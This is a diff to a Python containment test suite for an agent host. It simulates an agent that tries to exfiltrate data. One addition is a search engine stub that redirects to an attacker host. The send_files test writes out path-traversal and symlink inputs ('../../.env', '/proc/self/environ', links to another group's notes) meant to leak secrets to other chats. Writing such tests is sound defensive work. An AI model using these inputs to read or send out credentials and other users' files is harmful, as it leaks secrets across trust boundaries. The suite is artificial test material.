@@ -17,13 +17,16 @@ from dataclasses import dataclass, field, replace
 from pathlib import Path
 from typing import Any
 from unittest import mock
+from urllib.parse import parse_qs, quote, urlsplit
 
 import httpx
 
 from agent_runner.wire.files import unique_name, write_whole
 from agent_runner.wire.frames import Ack, TurnEnd
+from orchestrator.domain.settings import Settings
 from orchestrator.domain.values import Folder
 from orchestrator.inbound.intake import build_intake
+from orchestrator.ipc.handlers.files import OutgoingFiles
 from orchestrator.ipc.mailbox_worker import MailboxWorker
 from orchestrator.ipc.watcher import MailboxWatcher
 from orchestrator.proxies.egress import proxy as egress_proxy
@@ -36,6 +39,7 @@ from orchestrator.store.database import Database
 from orchestrator.store.mcp_servers import McpServer
 from tests.containment.harness import (
     EVIL_HOST,
+    OTHERS_SECRET,
     READING_TOOL,
     SECRET,
     Effect,
@@ -55,6 +59,7 @@ from tests.support.until import until
 LISTED_HOST = "files.example"
 """A host that takes what is sent to it, as file hosts, forges and package registries do."""
 ADDRESSES = {EVIL_HOST: "93.184.215.14", LISTED_HOST: "93.184.215.15"}
+GROUPS = ("main", "family", "work")
 TWO_HOURS_MS = 2 * 3_600_000
 SERVICE_TOOLS: Mapping[ServiceTool, dict[str, Any]] = {
     "search": {"tools": [{"type": "web_search_20250305", "name": "web_search", "max_uses": 1}]},
@@ -98,6 +103,10 @@ class Internet(SmallInternet):
     async def dial(self, address: str, port: int) -> EgressConnection:
         self.port = self._ports[address]
         return await super().dial(address, port)
+
+    def own_url(self, host: str) -> str:
+        """Return an address of a host that leads to it without this table of names."""
+        return f"http://127.0.0.1:{self._ports[ADDRESSES[host]]}/"
 
     def _taker(self, host: str) -> Any:
         async def take(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
@@ -144,6 +153,33 @@ class ToolServer:
 
 
 @dataclass
+class SearchEngine:
+    """A SearXNG of the owner's, which leads where a query's `!!` says and finds pages of the attacker's."""
+
+    upstream: FaultyUpstream
+    attacker: str
+    """The address of the attacker's host."""
+
+    def __post_init__(self) -> None:
+        self.upstream.behave = self._behave
+
+    async def _behave(
+        self,
+        request: Received,
+        upstream: FaultyUpstream,
+        reader: asyncio.StreamReader,
+        writer: asyncio.StreamWriter,
+    ) -> None:
+        (query,) = parse_qs(urlsplit(request.target).query)["q"]
+        if any(word.startswith("!!") for word in query.split()):
+            response = answer(302, b"", location=f"{self.attacker}?q={quote(query)}")
+        else:
+            found = {"results": [{"url": self.attacker, "title": "a page", "content": query}]}
+            response = answer(200, json.dumps(found).encode(), content_type="application/json")
+        await response(request, upstream, reader, writer)
+
+
+@dataclass
 class AndyUnderTest:
     """One host with three groups, of which one has the obedient agent."""
 
@@ -155,6 +191,7 @@ class AndyUnderTest:
     model: FaultyUpstream
     reading: ToolServer
     acting: ToolServer
+    engine: SearchEngine
     client: httpx.AsyncClient
     _seen: dict[str, int] = field(default_factory=dict)
 
@@ -180,6 +217,8 @@ class AndyUnderTest:
             await harness.take(run, frame)
         async with harness.database.transaction() as tx:
             await runs.end(tx, run.id, kind="closed", detail="", now_ms=harness.clock.now_ms())
+            # All that waits is delivered: only so many files may wait, and each task tries to send some.
+            await tx.execute("UPDATE outbox SET state = 'sent' WHERE state IN ('held', 'pending')")
 
     async def effects(self) -> list[Effect]:
         called = self._new("called", self.acting.called)
@@ -192,6 +231,12 @@ class AndyUnderTest:
             is_search = not asked.get("mcp_servers") and uses and all("web_search" in use for use in uses)
             kind = EffectKind.SEARCH if is_search else EffectKind.SERVICE
             found.append(Effect(kind=kind, detail=str(uses)))
+        searches = self._new("engine", self.engine.upstream.received)
+        found += [Effect(kind=EffectKind.SEARCH, detail=request.target) for request in searches]
+        files = self._new("files", await self._files())
+        found += [
+            Effect(kind=EffectKind.FILES, detail=str(row)) for row in files if _is_others(row, self.setting)
+        ]
         others = self._new("others", *await self._others())
         return found + [Effect(kind=EffectKind.OTHERS, detail=str(row)) for row in others]
 
@@ -206,6 +251,15 @@ class AndyUnderTest:
             new += rows[self._seen.get(key, 0) :]
             self._seen[key] = len(rows)
         return new
+
+    async def _files(self) -> list[Any]:
+        """Return the files that were queued, with the chats that they are for and their texts."""
+        rows = await self.harness.rows(
+            "SELECT chat_jid, file_path FROM outbox WHERE file_path IS NOT NULL ORDER BY id"
+        )
+        paths = [Path(row["file_path"]) for row in rows]
+        texts = await asyncio.to_thread(lambda: [path.read_text() for path in paths])
+        return list(zip([row["chat_jid"] for row in rows], texts, strict=True))
 
     async def _others(self) -> list[list[Any]]:
         """Return what stands in other groups of this one's words, and what else was made of them."""
@@ -264,8 +318,7 @@ class AndyWays:
         new = {"jid": f"local:new-{self.turn}", "name": "New", "folder": f"new-{self.turn}"}
         replies = [
             self._command("messages", {"type": "message", "text": text, "chatJid": chat})
-            for chat in ("local:work", "local:main", "local:family")
-            if chat != f"local:{self.system.setting.folder}"
+            for chat in self._other_chats
         ] + [
             self._command("tasks", command)
             for command in (
@@ -275,6 +328,33 @@ class AndyWays:
             )
         ]
         return "\n".join(await asyncio.gather(*replies))
+
+    async def search(self, words: str) -> str:
+        return await self._command("tasks", {"type": "web_search", "query": words, "turn": self.turn})
+
+    async def send_files(self, text: str) -> str:
+        home = self.system.home
+        own = home / "groups" / self.system.setting.folder
+        (own / "own.txt").write_text(text)
+        places = {"link.txt": home / "groups" / "work" / "notes.txt", "env.txt": home / ".env"}
+        for name, target in {**places, "folder": home / "groups" / "work"}.items():
+            with suppress(FileExistsError):
+                (own / name).symlink_to(target)
+        taken = ["../work/notes.txt", "/workspace/group/../work/notes.txt", *map(str, places.values())]
+        taken += [*places, "folder/notes.txt", "../../.env", "/proc/self/environ"]
+        said = await self._send_file("own.txt", None)
+        assert '"ok"' in said, f"the other refusals prove nothing: {said}"
+        replies = [self._send_file("own.txt", chat) for chat in self._other_chats]
+        replies += [self._send_file(path, None) for path in taken]
+        return "\n".join(await asyncio.gather(*replies))
+
+    @property
+    def _other_chats(self) -> list[str]:
+        chats = [f"local:{folder}" for folder in GROUPS]
+        return [chat for chat in chats if chat != f"local:{self.system.setting.folder}"]
+
+    async def _send_file(self, path: str, chat: str | None) -> str:
+        return await self._command("messages", {"type": "send_file", "path": path, "chatJid": chat})
 
     async def ask_service(self, tool: ServiceTool, text: str) -> str:
         message = {"role": "user", "content": text}
@@ -303,11 +383,14 @@ async def andy(
     setting: Setting, harness: StoreHarness, database_path: Path, home: Path
 ) -> AsyncIterator[AndyUnderTest]:
     """Start the parts of a host that stand between an agent and all else."""
-    for folder in ("main", "family", "work"):
+    for folder in GROUPS:
         is_main = folder == "main"
         await harness.add_group(folder, is_main=is_main, requires_trigger=not is_main)
         for name in ("messages", "tasks", "input", "replies"):
             (home / "data" / "ipc" / folder / name).mkdir(parents=True)
+        (home / "groups" / folder).mkdir(parents=True)
+    for place in (home / "groups" / "work" / "notes.txt", home / ".env"):
+        place.write_text(OTHERS_SECRET)
     async with harness.database.transaction() as tx:
         await groups.set_config(tx, Folder(setting.folder), dict(setting.config), now_ms=0)
     async with AsyncExitStack() as stack:
@@ -321,7 +404,10 @@ async def andy(
         await _add_server(harness, "desk", desk, setting.folder if setting.may_act else "work")
         internet = Internet()
         await stack.enter_async_context(internet.serving())
-        host = host_context(harness, home, reader=reader)
+        found = await stack.enter_async_context(FaultyUpstream())
+        engine = SearchEngine(found, attacker=internet.own_url(EVIL_HOST))
+        host_settings = Settings(tz="Asia/Seoul", andy_searxng_url=found.url)
+        host = host_context(harness, home, host_settings, reader=reader)
         credentials = CredentialSource(
             home, {"ANTHROPIC_API_KEY": "sk-ant-key", "ANTHROPIC_BASE_URL": model.url}
         )
@@ -335,7 +421,9 @@ async def andy(
         worker = MailboxWorker(
             host.home.ipc,
             database=harness.database,
-            dispatcher=dispatcher_of(harness),
+            dispatcher=dispatcher_of(
+                harness, copy_file=OutgoingFiles(home, limit=1_000_000).copy, web=proxies.web_search
+            ),
             watcher=watcher,
             owner_uids=lambda: frozenset({os.getuid()}),
         )
@@ -355,6 +443,7 @@ async def andy(
             model=model,
             reading=inbox,
             acting=desk,
+            engine=engine,
             client=client,
         )
 
@@ -387,6 +476,12 @@ async def _refuse_all(harness: StoreHarness, host: Any) -> None:
         while True:
             await events.get()
             await intake.accept(a_message("refuse all", "main"))
+
+
+def _is_others(file: tuple[str, str], setting: Setting) -> bool:
+    """Return whether a file was sent to others, or holds what is theirs or the host's."""
+    chat, text = file
+    return chat != f"local:{setting.folder}" or OTHERS_SECRET in text or SECRET not in text
 
 
 async def _never(run_id: str, reason: str) -> None:
